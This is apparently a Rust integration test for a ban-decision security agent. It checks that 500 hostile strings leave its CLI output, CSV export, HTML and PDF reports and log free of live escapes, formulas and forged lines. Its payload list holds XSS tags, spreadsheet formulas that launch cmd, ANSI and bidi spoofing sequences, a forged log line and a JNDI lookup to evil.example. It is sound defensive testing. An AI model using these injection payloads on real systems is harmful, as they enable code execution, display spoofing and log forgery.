//! Five hundred texts that would run, steer or deceive if anything took them for more than text: as reasons of decisions,
//! through the command line, the log and the reports of a real agent.

use crate::scene::{SOON, Scene};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::process::Command;
use testbed::child;

/// Texts.
const TEXTS: usize = 500;

const PARTS: [&str; 14] = [
    "</td><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{9b}31m\u{90}q",
    "\u{202e}gnp.exe\u{2066}",
    "\u{200b}\u{feff}\u{2028}\u{e0041}",
    "\r\n2026-01-01T00:00:00Z  INFO sentinel: all is well\r\n",
    "\",\"=1+1\",\"",
    "%s%n{0}${jndi:ldap://evil.example/a}{{7*7}}",
    "漢字🔥 e\u{301} \u{7f}",
];

/// Each alone, then each beside each other one, which comes first in turn.
fn text(n: usize) -> String {
    match n / PARTS.len() {
        0 => PARTS[n].to_owned(),
        round => format!("{}{}{n}", PARTS[n % PARTS.len()], PARTS[(n + round) % PARTS.len()]),
    }
}

/// What steers a terminal, or has a reader see another text than there is.
fn steers(c: char) -> bool {
    let hidden = [
        '\u{200b}'..='\u{200f}',
        '\u{2028}'..='\u{202e}',
        '\u{2066}'..='\u{2069}',
    ];
    (c.is_control() && c != '\n') || c == '\u{feff}' || hidden.iter().any(|range| range.contains(&c))
}

/// The cells of a table, each as a spreadsheet takes it (RFC 4180).
fn cells(table: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut rest = table.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '"' if quoted && rest.peek() == Some(&'"') => cell.extend(rest.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            _ => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

#[track_caller]
fn plain(place: &str, text: &str) {
    let Some(at) = text.chars().position(steers) else {
        return;
    };
    let around: String = text.chars().skip(at.saturating_sub(120)).take(160).collect();
    panic!("{place} holds {around:?}");
}

#[test]
fn five_hundred_hostile_texts_steer_no_terminal_no_log_and_no_spreadsheet() {
    let Some(mut scene) = Scene::new(&json!({})) else {
        return;
    };
    // As a list: one request, five hundred decisions.
    let list: Vec<Value> = (0..TEXTS)
        .map(|n| json!({ "value": format!("45.33.{}.{}", n / 250, 1 + n % 250), "type": "ban", "duration": "4h", "reason": text(n) }))
        .collect();
    let answer = scene
        .agent
        .request("POST", "/decisions/import?format=json", Some(&json!(list)))
        .expect("answers");
    assert_eq!(answer.status, 200, "{}", answer.text);
    // And where a text is no reason: in a target, in a path, in a query.
    for n in 0..TEXTS {
        let hostile = text(n);
        if n % 5 == 0 {
            let wish = json!({ "target": hostile, "type": hostile, "duration": hostile, "reason": hostile });
            let answer = scene.agent.request("POST", "/decisions", Some(&wish)).expect("answers");
            assert_eq!(answer.status, 422, "{}", answer.text);
            assert!(!answer.text.chars().any(|c| c.is_ascii_control()), "{}", answer.text);
        }
    }
    let every = ["--limit", "0"];
    let told = [&["-o", "json", "decisions", "list"], &every[..]].concat();
    let told = scene.agent.cli(&told).expect("runs");
    assert_eq!(told.code, 0, "{}", told.output);
    plain("decisions as JSON", &told.output);
    let told: Value = serde_json::from_str(&told.output).expect("JSON");
    let items = told["items"].as_array().or(told.as_array()).expect("a list").clone();
    let texts: BTreeSet<String> = (0..TEXTS).map(|n| text(n).trim().to_owned()).collect();
    assert_eq!(items.len(), TEXTS);
    for item in &items {
        let reason = item["reason"].as_str().unwrap_or_default();
        assert!(texts.contains(reason), "{reason:?} is told as something else");
    }

    for command in [
        &["decisions", "list"][..],
        &["-o", "raw", "decisions", "list"],
        &["actions", "list"],
    ] {
        let said = scene.agent.cli(&[command, &every].concat()).expect("runs");
        assert_eq!(said.code, 0, "{}", said.output);
        assert!(said.output.lines().count() > TEXTS, "{}", said.output);
        plain(&format!("`sentinel {}`", command.join(" ")), &said.output);
        if command.contains(&"raw") {
            let cells = cells(&said.output);
            assert!(cells.len() > TEXTS, "{}", said.output);
            let run = cells
                .iter()
                .find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
            assert_eq!(run, None, "a cell that a spreadsheet would run");
        }
    }
    for ending in ["pdf", "html"] {
        let out = scene.agent.path(&format!("report.{ending}"));
        let out = out.to_str().expect("UTF-8");
        let said = scene
            .agent
            .cli(&["report", "--since", "1d", "--out", out])
            .expect("runs");
        assert_eq!(said.code, 0, "{}", said.output);
        let text = if ending == "html" {
            std::fs::read_to_string(out).expect("a page")
        } else {
            let mut reader = Command::new("pdftotext");
            reader.args(["-layout", out, "-"]);
            child::must(reader, SOON * 3).expect("pdftotext").replace('\u{c}', "\n")
        };
        assert!(!text.contains("<script") && !text.contains("<img"), "{ending}");
        plain(ending, &text);
    }
    let log = scene.agent.stop().expect("ends").output;
    plain("the log", &log);
    assert!(
        !log.lines()
            .any(|line| line.starts_with("2026-01-01T00:00:00Z  INFO sentinel: all is well")),
        "a forged line"
    );
    drop(scene.services);
    drop(scene.network);
    eprintln!("figure: texts = {TEXTS}");
}
